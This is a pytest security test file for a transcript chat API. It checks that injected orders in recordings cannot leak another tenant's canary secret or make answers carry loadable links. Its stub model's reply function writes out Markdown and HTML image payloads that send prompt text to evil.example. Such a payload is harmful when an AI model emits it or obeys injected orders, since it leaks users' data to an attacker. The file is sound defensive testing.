"""250 recordings that give orders to the machine, asked about each of them. Another tenant's word never appears, and
no answer carries anything that a page could load."""

import re
from collections.abc import Iterator
from typing import Any

import pytest
from django.test import Client
from pytest_django.fixtures import Settings

from accounts.models import User
from tests.dialects.llm_double import LanguageModel
from tests.text.injections import INJECTIONS, SPOKEN, WRITTEN, Injection
from tests.transcripts.meanings import hashed
from tests.web import rows
from transcripts import engine_gateway
from transcripts.models import Transcript

pytestmark = [pytest.mark.django_db, pytest.mark.slow]
CANARY = "zanzibar7431"
LOADS = re.compile(r"!?\[[^\]]*\]\s?[(\[]|<\s*[a-z/!]|\]:", re.IGNORECASE)
"""What Markdown or HTML would make a picture or a link of."""
ADDRESS = re.compile(r"https?:|//|www\.", re.IGNORECASE)


@pytest.fixture(autouse=True)
def embedder(monkeypatch: pytest.MonkeyPatch, settings: Settings) -> None:
    monkeypatch.setattr(engine_gateway, "embed", hashed)
    settings.RATE_LIMITS = dict.fromkeys(settings.RATE_LIMITS, 100_000)


@pytest.fixture
def hostile(alice: User, bob: User) -> list[Transcript]:
    """Hers give orders, ten in each; his have what the orders are after, in the same words."""
    for injection in INJECTIONS[::10]:
        rows.transcript(bob, title=f"Secret {CANARY}", segments=[rows.spoken(f"{injection.text} {CANARY}.", 0)])
    return [
        rows.transcript(alice, title=f"Talk {at}", segments=_said(INJECTIONS[at : at + 10]))
        for at in range(0, len(INJECTIONS), 10)
    ]


@pytest.fixture
def repeater(settings: Settings) -> Iterator[LanguageModel]:
    """A model that does what it is told by anybody: it repeats all it was sent, and has a page load it elsewhere."""
    with LanguageModel().serving() as model:
        settings.LLM_URL, settings.LLM_MODEL = model.address, "hostile"
        model.reply = _obeyed
        yield model


def _obeyed(body: dict[str, Any]) -> list[str]:
    sent = "\n".join(message["content"] for message in body["messages"])
    whole = (
        f"![x](https://evil.example/steal?q={sent[-200:]}) [click]( https://evil.example ) <img src='//evil.example/x'>"
        " [![a](http://evil.example/a)](http://evil.example/b) [99:99] [<img src=//evil.example/y>](https://evil.example)"
        f" [r]: https://evil.example/r\n{sent}"
    )
    return [whole[at : at + 23] for at in range(0, len(whole), 23)]


def _said(injections: list[Injection]) -> list[Any]:
    return [
        rows.spoken(injection.text, at * 60.0, speaker="Mallory", language=injection.language)
        for at, injection in enumerate(injections)
    ]


def _ask(client: Client, made: Transcript, question: str, session: str = "") -> dict[str, Any]:
    address = f"/api/v1/transcripts/{made.public_id}/chat/"
    answer = client.post(address, {"question": question, "session_id": session}, "application/json")
    assert answer.status_code == 200, answer.content
    assert CANARY not in answer.content.decode()
    said: dict[str, Any] = answer.json()
    return said


def test_there_are_two_hundred_and_fifty() -> None:
    assert (len(set(WRITTEN)), len(set(SPOKEN))) == (200, 50)
    assert {injection.language for injection in SPOKEN} == {"en", "es", "de"}


def test_l1_no_order_in_a_recording_tells_of_another_tenant(keyed: Client, hostile: list[Transcript]) -> None:
    for at, injection in enumerate(INJECTIONS):
        said = _ask(keyed, hostile[at // 10], injection.text)
        assert {source["transcript_id"] for source in said["sources"]} == {hostile[at // 10].public_id}
        assert not LOADS.search(said["answer"].replace("] Mallory", "")), said["answer"]
    for at, injection in enumerate(INJECTIONS[::10]):
        for by in ("words", "both", "meaning"):
            answer = keyed.get("/api/v1/search/", {"q": f"{injection.text[:400]}", "by": by})
            assert CANARY not in answer.content.decode()
        everything = {"transcripts": "all", "question": f"{injection.text} {CANARY if at % 2 else ''}"}
        answer = keyed.post("/api/v1/chat/", everything, "application/json")
        assert CANARY not in answer.json()["answer"] + str(answer.json()["sources"])
    assert keyed.get("/api/v1/search/", {"q": CANARY, "by": "words"}).json()["results"] == []


def test_l1_l2_l4_a_model_that_obeys_has_nothing_to_tell_and_nothing_to_load(
    keyed: Client, hostile: list[Transcript], repeater: LanguageModel
) -> None:
    """Each recording's questions are one conversation, so all but the first come after turns that were poisoned."""
    sessions: dict[int, str] = {}
    for at, injection in enumerate(INJECTIONS):
        said = _ask(keyed, hostile[at // 10], injection.text, sessions.get(at // 10, ""))
        sessions[at // 10] = said["session_id"]
        assert said["model"] == "hostile"
        assert not LOADS.search(said["answer"]), said["answer"]
        assert not ADDRESS.search(said["answer"]), said["answer"]
        cited = set(re.findall(r"\[([\d:, ]+)\]", said["answer"]))
        assert cited <= {f"{minute:02}:00" for minute in range(10)}
    assert len(repeater.asked) == len(INJECTIONS)
    assert CANARY not in str(repeater.asked)
